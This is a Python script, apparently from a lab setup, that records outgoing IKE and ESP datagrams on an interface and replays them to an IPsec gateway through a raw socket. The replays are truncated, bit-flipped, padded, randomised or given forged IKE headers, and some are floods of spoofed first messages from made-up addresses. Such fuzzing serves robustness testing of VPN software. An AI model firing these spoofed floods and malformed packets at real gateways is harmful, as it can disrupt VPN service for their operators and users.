#!/usr/bin/python3
"""Records the datagrams that leave an interface towards adit, then sends them again in every wrong form.

  attack.py record FILE SECONDS         in gw-b: IKE and ESP in UDP, as they are
  attack.py attack FILE COUNT [SEED]    in wan: from the recorded and from made-up source addresses
"""
import json
import random
import socket
import struct
import sys
import time

TARGET = "198.51.100.1"
ETH_P_ALL = 3  # the only kind of packet socket that sees what leaves


def record(file, seconds):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL))
    s.bind(("wan", ETH_P_ALL))
    s.settimeout(0.2)
    end, seen = time.time() + seconds, []
    while time.time() < end:
        try:
            packet, where = s.recvfrom(65536)
        except socket.timeout:
            continue
        if where[1] != 0x0800 or where[2] != 4 or len(packet) < 28 or packet[9] != 17:  # 4: outgoing
            continue
        header = 4 * (packet[0] & 15)
        source, target = struct.unpack("!HH", packet[header:header + 4])
        if target in (500, 4500) and not packet[6] & 0x3f:
            seen.append([socket.inet_ntoa(packet[12:16]), source, target, packet[header + 8:].hex()])
    json.dump(seen, open(file, "w"))
    print("%d datagrams recorded" % len(seen))


def send(s, source, port, target, payload):
    udp = struct.pack("!HHHH", port, target, 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(TARGET))
    try:
        s.sendto(ip + udp, (TARGET, 0))
    except OSError:  # no buffer space: the kernel is behind
        time.sleep(0.01)


def ike_header(r, exchange, length):
    flags = r.choice([0x08, 0x20, 0x28, 0x00, 0xff])
    return r.randbytes(8) + r.choice([bytes(8), r.randbytes(8)]) + struct.pack(
        "!BBBBII", r.choice([33, 41, 46, 53, 0, 255]), r.choice([0x20, 0x20, 0x20, 0x10, 0x30]), exchange, flags,
        r.choice([0, 0, 1, 0xffffffff]), length)


def attack(file, count, seed):
    r = random.Random(seed)
    seen = [(a, p, t, bytes.fromhex(d)) for a, p, t, d in json.load(open(file))]
    inits = [m for m in seen if len(m[3]) > 28 and m[3][18 if m[2] == 500 else 22] == 34]
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for number in range(count):
        source, port, target, data = r.choice(seen)
        kind = number % 8
        if kind == 1:
            data = data[:r.randrange(len(data) + 1)]
        elif kind == 2:
            bent = bytearray(data)
            for _ in range(r.randrange(1, 4)):
                bent[r.randrange(len(bent))] ^= 1 << r.randrange(8)
            data = bytes(bent)
        elif kind == 3:
            data += r.randbytes(r.randrange(1, 1200))
            data = data[:1472]
        elif kind == 4:
            data = r.randbytes(r.choice([0, 1, 3, 4, 5, 27, 28, 29, r.randrange(1472)]))
        elif kind == 5:  # an IKE header with a lie behind it
            body = r.randbytes(r.randrange(200))
            data = (b"\0\0\0\0" if target == 4500 else b"") + ike_header(
                r, r.choice([34, 35, 36, 37, 0, 255]), r.choice([28 + len(body), 0, 27, 0xffffffff])) + body
        elif kind >= 6 and inits:  # a flood of first messages from everywhere
            _, _, target, data = r.choice(inits)
            skip = 4 if target == 4500 else 0
            data = data[:skip] + r.randbytes(8) + data[skip + 8:]
            source, port = "203.0.113.%d" % r.randrange(2, 254), r.randrange(1024, 65535)
        send(s, source, port, target, data)
        if number % 50 == 0:
            time.sleep(0.005)
    print("%d datagrams sent, made of %d, seed %d" % (count, len(seen), seed))


if sys.argv[1] == "record":
    record(sys.argv[2], float(sys.argv[3]))
else:
    attack(sys.argv[2], int(sys.argv[3]), int(sys.argv[4]) if len(sys.argv) > 4 else 1)
